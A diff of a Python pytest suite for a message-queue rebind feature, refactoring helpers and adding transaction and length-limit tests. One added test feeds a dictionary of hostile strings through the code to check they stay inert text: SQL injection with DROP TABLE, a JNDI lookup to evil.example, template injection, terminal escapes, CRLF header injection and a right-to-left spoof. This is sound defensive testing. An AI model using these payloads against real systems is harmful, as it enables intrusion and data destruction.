@@ -10,65 +10,34 @@ from datetime import UTC, datetime
 from typing import Any
 
 import pytest
-from bulk import BATCH
-from conftest import in_order, logged, message, stored
-from message import Message
-from sqlalchemy import create_engine, select
+from conftest import (
+    ODD_TEXT,
+    ask,
+    contents,
+    counts,
+    in_order,
+    locked,
+    logged,
+    message,
+    metas,
+    names,
+    nothing_changes,
+    run_sql,
+    set_data,
+    stored,
+)
+from sqlalchemy import delete, insert, text
 from sqlalchemy.exc import DBAPIError
 
 import store
+from moving import BATCH
+from message import Message
 from names import queue_name
-from queues import (
-    DuplicateMessage,
-    QueueRegistry,
-    QueueSummary,
-    RebindRequest,
-    RebindResult,
-    rebind,
-)
+from queues import DuplicateMessage, HandlerFailed, QueueRegistry, QueueSummary, rebind
+from store import MAX_NAME, StoreRefused
 
-ODD_TEXT = "é€\U0001f600 \"\\/\t\x7f\u2028'%:@!"
 FLAGS = ("trigger_rebind_event", "always_flush", "suppress_logging")
-
-
-def ask(
-    queues: QueueRegistry,
-    data: dict[str, str] | None = None,
-    *,
-    dry_run: bool = False,
-    limit: int | None = None,
-    **fields: Any,
-) -> RebindResult:
-    """Ask for a rebind that sets `data`."""
-    return queues.rebind(RebindRequest("a test", data or {}, **fields), actor="me", dry_run=dry_run, limit=limit)
-
-
-def counts(result: RebindResult) -> tuple[int, int, int]:
-    return result.matched, result.moved, result.flushed
-
-
-def names(url: str) -> list[str]:
-    """The queue of each message."""
-    return [row["queue"] for row in stored(url)]
-
-
-def metas(url: str) -> list[dict[str, Any]]:
-    """The metadata of each message."""
-    return [row["meta"] for row in stored(url)]
-
-
-def run(url: str, *statements: str) -> None:
-    """Run SQL as a sender or a worker does, who knows nothing of this program."""
-    engine = create_engine(url)
-    with engine.begin() as db:
-        for statement in statements:
-            db.exec_driver_sql(statement.replace("%", "%%") if db.dialect.name == "postgresql" else statement)
-    engine.dispose()
-
-
-def set_data(message: Message, data: dict[str, str]) -> None:
-    """A handler that does what is done without the event."""
-    message.meta |= data
+BY_DATA_AND_BY_EVENT = pytest.mark.parametrize("event", [False, True], ids=["data", "event"])
 
 
 # Which messages
@@ -101,12 +70,12 @@ def test_a_criterion_picks_the_queues_whose_part_equals_it(queues: QueueRegistry
         {"tenant": ""},
         {"domain": "EXAMPLE.COM"},
         {"routing_domain": "ROUTE.example"},
-        {"campaign": ODD_TEXT.replace(":", "").replace("@", "")},
+        {"campaign": ODD_TEXT.translate({ord(":"): None, ord("@"): None})},
     ],
     ids=["empty tenant", "domain in upper case", "routing domain in upper case", "odd campaign"],
 )
 def test_criteria_find_the_queue(queues: QueueRegistry, url: str, criteria: dict[str, Any]) -> None:
-    campaign = ODD_TEXT.replace(":", "").replace("@", "")
+    campaign = ODD_TEXT.translate({ord(":"): None, ord("@"): None})
     queues.load([message(meta={"campaign": campaign, "routing_domain": "route.Example"}), message("bob@other.example")])
     assert counts(ask(queues, {"queue": "q"}, **criteria)) == (1, 1, 1)
     assert names(url) == ["q", "other.example"]
@@ -121,22 +90,17 @@ def test_criteria_are_compared_with_the_queues_name_and_not_with_metadata(queues
 
 
 def test_a_request_that_matches_nothing_does_nothing(queues: QueueRegistry, url: str) -> None:
+    assert counts(ask(queues, {"queue": "q"}, always_flush=True)) == (0, 0, 0), "there is no message at all"
     queues.load([message()])
-    before = stored(url)
-    assert counts(ask(queues, {"queue": "q"}, campaign="none", always_flush=True)) == (0, 0, 0)
-    assert (stored(url), logged(url)) == (before, [])
-
-
-def test_where_there_is_no_message_nothing_matches(queues: QueueRegistry) -> None:
-    assert counts(ask(queues, {"queue": "q"}, always_flush=True)) == (0, 0, 0)
+    with nothing_changes(url):
+        assert counts(ask(queues, {"queue": "q"}, campaign="none", always_flush=True)) == (0, 0, 0)
 
 
 def test_a_message_that_moves_into_another_matched_queue_is_handled_once(queues: QueueRegistry, url: str) -> None:
     queues.load([message(meta={"campaign": name}) for name in ("a", "b", "c")])
-    result = queues.rebind(RebindRequest("r", {"campaign": "b"}), actor="me")
-    assert (result.matched, result.moved) == (3, 2)
-    assert [row["queue"] for row in stored(url)] == ["b:@example.com"] * 3
-    assert sorted(record["old_queue"] for record in queues.records()) == [f"{name}:@example.com" for name in "abc"]
+    assert counts(ask(queues, {"campaign": "b"})) == (3, 2, 2)
+    assert names(url) == ["b:@example.com"] * 3
+    assert [record["old_queue"] for record in logged(url)] == [f"{name}:@example.com" for name in "abc"]
 
 
 def test_messages_that_handlers_move_into_matched_queues_are_handled_once(queues: QueueRegistry, url: str) -> None:
@@ -190,6 +154,40 @@ def test_metadata_may_have_any_key_and_value(queues: QueueRegistry, url: str) ->
     assert [record["meta"] for record in queues.records()] == metas(url)
 
 
+HOSTILE = {
+    "SQL": "' OR 1=1; DROP TABLE messages; --",
+    "SQL's wildcards": "%_*?",
+    "a parameter": ":key %(key)s $1 ? %s",
+    "a template": "{{7*7}} ${jndi:ldap://evil.example/a} #{1} <%= 1 %>",
+    "a terminal": "\x1b[2J\x1b]0;owned\x07\x9b31m",
+    "a header": "a\r\nX-Evil: 1\r\n\r\nHTTP/1.1 200 OK",
+    "right to left": "\u202egnp.exe\u2066",
+    "not a character": "\ufffe\uffff\U0010ffff",
+    "a quote and a backslash": "'\"\\`\\'\\\"",
+    "a path in JSON": "$.a[0]",
+    "much": "x" * 300_000,
+}
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
+def test_hostile_text_is_text_wherever_it_stands(queues: QueueRegistry, url: str, text: str) -> None:
+    queues.load([message(meta={"campaign": "c", "tenant": "t", "routing_domain": "r"})])
+    with nothing_changes(url):
+        for criterion in ("campaign", "tenant", "domain", "routing_domain"):
+            assert counts(ask(queues, {"queue": "b"}, **{criterion: text})) == (0, 0, 0)
+    ask(queues, {"a": text, text: "b"}, reason=text, domain="example.com")
+    (record,) = queues.records()
+    assert record["meta"] == {"campaign": "c", "tenant": "t", "routing_domain": "r", "a": text, text: "b"}
+    assert record["response"]["content"] == f"Rebound from c:t@example.com!r to c:t@example.com!r: {text}"
+
+
+def test_data_may_have_a_thousand_keys(queues: QueueRegistry, url: str) -> None:
+    queues.load([message()])
+    data = {f"{n:x}": "" for n in range(1000)}
+    ask(queues, data)
+    assert metas(url) == [data]
+
+
 def test_numbers_and_booleans_stay_what_they_are(queues: QueueRegistry, url: str) -> None:
     meta = {
         "int": 1,
@@ -233,7 +231,7 @@ def test_numbers_and_booleans_stay_what_they_are(queues: QueueRegistry, url: str
     ],
     ids=str,
 )
-@pytest.mark.parametrize("event", [False, True], ids=["data", "event"])
+@BY_DATA_AND_BY_EVENT
 def test_the_queue_is_named_anew(
     queues: QueueRegistry, url: str, event: bool, meta: dict[str, Any], data: dict[str, str], name: str
 ) -> None:
@@ -267,7 +265,7 @@ def test_sql_and_python_give_a_queue_the_same_name(queues: QueueRegistry, url: s
     assert names(url) == [queue_name(meta | data, "[ipv6:::1]") for meta in METAS]
 
 
-@pytest.mark.parametrize("event", [False, True], ids=["data", "event"])
+@BY_DATA_AND_BY_EVENT
 def test_only_a_message_that_moved_is_due_now(queues: QueueRegistry, url: str, event: bool) -> None:
     queues.load(
         [message(meta={"tenant": "a"}, due=4e9, num_attempts=3), message(meta={"tenant": "b"}, due=5e9, num_attempts=4)]
@@ -282,7 +280,7 @@ def test_only_a_message_that_moved_is_due_now(queues: QueueRegistry, url: str, e
     assert stayed == second
 
 
-@pytest.mark.parametrize("event", [False, True], ids=["data", "event"])
+@BY_DATA_AND_BY_EVENT
 def test_always_flush_makes_every_matched_message_due_now(queues: QueueRegistry, url: str, event: bool) -> None:
     queues.load([message(due=4e9), message(due=1.0), message(meta={"tenant": "t"}, due=4e9)])
     before = stored(url)
@@ -340,7 +338,7 @@ def test_a_dry_run_changes_nothing_and_counts_the_same(
     assert stored(url) != before
 
 
-@pytest.mark.parametrize("event", [False, True], ids=["data", "event"])
+@BY_DATA_AND_BY_EVENT
 def test_a_limit_picks_those_due_soonest_of_all_queues(queues: QueueRegistry, url: str, event: bool) -> None:
     dues = {"a": [5.0, 1.0], "b": [2.0, 6.0], "c": [4.0, 3.0]}
     queues.load(message(meta={"tenant": t}, due=due) for t, each in dues.items() for due in each)
@@ -375,7 +373,7 @@ def test_a_limit_counts_only_messages_that_match(queues: QueueRegistry, url: str
 # Records
 
 
-@pytest.mark.parametrize("event", [False, True], ids=["data", "event"])
+@BY_DATA_AND_BY_EVENT
 def test_suppress_logging_writes_no_record(queues: QueueRegistry, url: str, event: bool) -> None:
     queues.load([message(), message()])
     with rebind.connected_to(set_data):
@@ -383,14 +381,13 @@ def test_suppress_logging_writes_no_record(queues: QueueRegistry, url: str, even
     assert (counts(result), names(url), list(queues.records())) == ((2, 2, 2), ["q", "q"], [])
 
 
-@pytest.mark.parametrize("event", [False, True], ids=["data", "event"])
+@BY_DATA_AND_BY_EVENT
 def test_a_record_says_what_became_of_a_message(queues: QueueRegistry, url: str, event: bool) -> None:
     meta = {"tenant": "t", "reception_protocol": "ESMTP"}
     new = message(["Ada@Example.com", "bob@other.example"], meta=meta, content=b"\xc3\xa9", num_attempts=2)
     queues.load([new])
-    request = RebindRequest("réason: %s {}", {"tenant": "u"}, trigger_rebind_event=event)
     with rebind.connected_to(set_data):
-        result = queues.rebind(request, actor="ada")
+        result = ask(queues, {"tenant": "u"}, reason="réason: %s {}", actor="ada", trigger_rebind_event=event)
     (created,), (event_time,) = [row["created"] for row in stored(url)], [row["event_time"] for row in logged(url)]
     assert list(queues.records()) == [
         {
@@ -451,7 +448,7 @@ def test_records_stay_when_their_message_goes(queues: QueueRegistry) -> None:
     queues.load([new])
     ask(queues)
     with queues.database.write() as db:
-        db.execute(store.messages.delete())
+        db.execute(delete(store.messages))
     assert [record["id"] for record in queues.records()] == [new.id]
 
 
@@ -507,12 +504,7 @@ def test_a_message_is_stored_as_it_was_loaded(queues: QueueRegistry, url: str) -
         "due": 1.25,
         "num_attempts": 7,
     }
-    assert _contents(queues) == [(new.id, b"\0\xff")]
-
-
-def _contents(queues: QueueRegistry) -> list[tuple[str, bytes]]:
-    with queues.database.look() as db:
-        return [(row.id, row.data) for row in db.execute(select(store.contents))]
+    assert contents(url) == {new.id: b"\0\xff"}
 
 
 def test_a_message_without_a_time_is_due_when_it_is_loaded(queues: QueueRegistry, url: str) -> None:
@@ -526,7 +518,7 @@ def test_a_load_discards_messages_for_the_queue_null(queues: QueueRegistry, url:
     gone = [message(meta={"queue": "null"}) for _ in range(2)]
     assert queues.load([gone[0], *kept, gone[1]]) == (4, 2)
     assert [row["id"] for row in stored(url)] == [each.id for each in kept]
-    assert [id for id, _ in _contents(queues)] == [each.id for each in kept]
+    assert contents(url).keys() == {each.id for each in kept}
 
 
 def test_a_load_of_nothing_adds_nothing(queues: QueueRegistry) -> None:
@@ -585,14 +577,14 @@ def insert_message(id: str, meta: str, domain: str = "example.com", queue: str =
     )
 
 
-@pytest.mark.parametrize("event", [False, True], ids=["data", "event"])
+@BY_DATA_AND_BY_EVENT
 @pytest.mark.parametrize("ascii_only", [False, True], ids=["as it is", "escaped"])
 def test_a_message_that_a_sender_inserted_is_rebound(
     queues: QueueRegistry, url: str, event: bool, ascii_only: bool
 ) -> None:
     meta = {"tenant": 'té\U0001f600"\\', "é\U0001f600": {"ü": ["ö\n"]}, "kept": "ä"}
     written = json.dumps(meta, ensure_ascii=ascii_only, indent=1)
-    run(url, insert_message("s1", written))
+    run_sql(url, insert_message("s1", written))
     with rebind.connected_to(set_data):
         ask(queues, {"é\U0001f600": "ß", "campaign": "ç"}, trigger_rebind_event=event)
     (row,) = stored(url)
@@ -603,7 +595,7 @@ def test_a_message_that_a_sender_inserted_is_rebound(
 
 
 def test_a_message_is_named_by_the_domain_that_its_sender_gave(queues: QueueRegistry, url: str) -> None:
-    run(url, insert_message("s1", "{}", domain="relay.example:2525"))
+    run_sql(url, insert_message("s1", "{}", domain="relay.example:2525"))
     ask(queues, {"tenant": "t"})
     assert names(url) == ["t@relay.example:2525"]
 
@@ -611,15 +603,15 @@ def test_a_message_is_named_by_the_domain_that_its_sender_gave(queues: QueueRegi
 @pytest.mark.parametrize("meta", ["[]", "null", "1", '"a"', "true", "", "{", '{"a": NaN}'], ids=repr)
 def test_metadata_that_is_no_object_is_refused(queues: QueueRegistry, url: str, meta: str) -> None:
     with pytest.raises(DBAPIError, match=r"meta_is_object|malformed|json"):
-        run(url, insert_message("s1", meta))
+        run_sql(url, insert_message("s1", meta))
     assert stored(url) == []
 
 
 def test_a_message_that_is_deleted_takes_its_content_along(queues: QueueRegistry, url: str) -> None:
     kept, gone = message(), message()
     queues.load([kept, gone])
-    run(url, f"DELETE FROM messages WHERE id = '{gone.id}'")
-    assert _contents(queues) == [(kept.id, b"Hello")]
+    run_sql(url, f"DELETE FROM messages WHERE id = '{gone.id}'")
+    assert contents(url) == {kept.id: b"Hello"}
 
 
 def test_a_sender_that_writes_half_a_character_does_not_keep_others_from_being_rebound(
@@ -628,18 +620,65 @@ def test_a_sender_that_writes_half_a_character_does_not_keep_others_from_being_r
     """PostgreSQL refuses such JSON; SQLite takes it, and makes of it text that is no UTF-8."""
     queues.load([message(id="other")])
     with suppress(DBAPIError):
-        run(url, insert_message("half", r'{"campaign": "\ud800"}'))
+        run_sql(url, insert_message("half", r'{"campaign": "\ud800"}'))
     for tenant in ("a", "b"):
         ask(queues, {"tenant": tenant})
     named = {summary.queue: summary.messages for summary in queues.queues()}
     assert named in ({"b@example.com": 1}, {"b@example.com": 1, "\ud800:b@example.com": 1})
 
 
-def test_a_rebind_leaves_contents_alone(queues: QueueRegistry) -> None:
+def test_a_content_without_its_message_is_refused(queues: QueueRegistry, url: str) -> None:
+    with pytest.raises(StoreRefused), queues.database.write() as db:
+        db.execute(insert(store.contents).values(id="nobody's", data=b"Hello"))
+    assert contents(url) == {}
+
+
+def test_a_rebind_leaves_contents_alone(queues: QueueRegistry, url: str) -> None:
     queues.load([message(content=b"1"), message(content=b"2")])
-    before = _contents(queues)
+    before = contents(url)
     ask(queues, {"queue": "q"})
-    assert _contents(queues) == before
+    assert contents(url) == before
+
+
+# Transactions
+
+
+@pytest.mark.sqlite
+def test_a_commit_in_sqlite_survives_a_power_loss(queues: QueueRegistry) -> None:
+    """SQLite's documentation of "PRAGMA synchronous" promises that for FULL, which is 2, in WAL mode too."""
+    with queues.database.write() as db:
+        assert db.scalar(text("PRAGMA synchronous")) == 2
+
+
+def test_a_transaction_that_reads_leaves_no_trace(queues: QueueRegistry, url: str) -> None:
+    queues.load([message()])
+    with nothing_changes(url), queues.database.read() as db:
+        db.execute(delete(store.messages))
+
+
+@BY_DATA_AND_BY_EVENT
+def test_a_dry_run_and_a_request_that_matches_nothing_wait_for_nobody(
+    queues: QueueRegistry, url: str, event: bool
+) -> None:
+    queues.load([message()])
+    queues.bind(url, busy_timeout=0)
+    with locked(url), rebind.connected_to(set_data):
+        assert counts(ask(queues, {"queue": "b"}, domain="no.example", trigger_rebind_event=event)) == (0, 0, 0)
+        assert counts(ask(queues, {"queue": "b"}, dry_run=True, trigger_rebind_event=event)) == (1, 1, 1)
+
+
+@pytest.mark.parametrize("dry_run", [False, True], ids=["", "dry run"])
+@BY_DATA_AND_BY_EVENT
+def test_a_name_too_long_for_a_queue_is_refused_and_nothing_changes(
+    queues: QueueRegistry, url: str, event: bool, dry_run: bool
+) -> None:
+    """It is measured in bytes. PostgreSQL's index takes no more."""
+    queues.load([message(meta={"routing_domain": "r" * 700})])
+    names = [{"queue": "é" * (MAX_NAME // 2) + "x"}, {"campaign": "c" * 700, "tenant": "t" * 700}]
+    for data in names:
+        with nothing_changes(url), rebind.connected_to(set_data), pytest.raises(StoreRefused, match="2000 bytes"):
+            ask(queues, data, trigger_rebind_event=event, dry_run=dry_run)
+    assert counts(ask(queues, {"queue": "é" * (MAX_NAME // 2)}, dry_run=dry_run)) == (1, 1, 1)
 
 
 def test_a_failed_rebind_leaves_nothing_behind_that_hinders_the_next(queues: QueueRegistry, url: str) -> None:
@@ -648,7 +687,7 @@ def test_a_failed_rebind_leaves_nothing_behind_that_hinders_the_next(queues: Que
 
     queues.load([message()])
     for dry_run in (True, False, True):
-        with rebind.connected_to(fail), pytest.raises(Exception, match="not today"):
+        with rebind.connected_to(fail), pytest.raises(HandlerFailed, match="not today"):
             ask(queues, {"queue": "q"}, trigger_rebind_event=True, dry_run=dry_run)
     assert counts(ask(queues, {"queue": "q"}, dry_run=True)) == (1, 1, 1)
     assert counts(ask(queues, {"queue": "q"})) == (1, 1, 1)
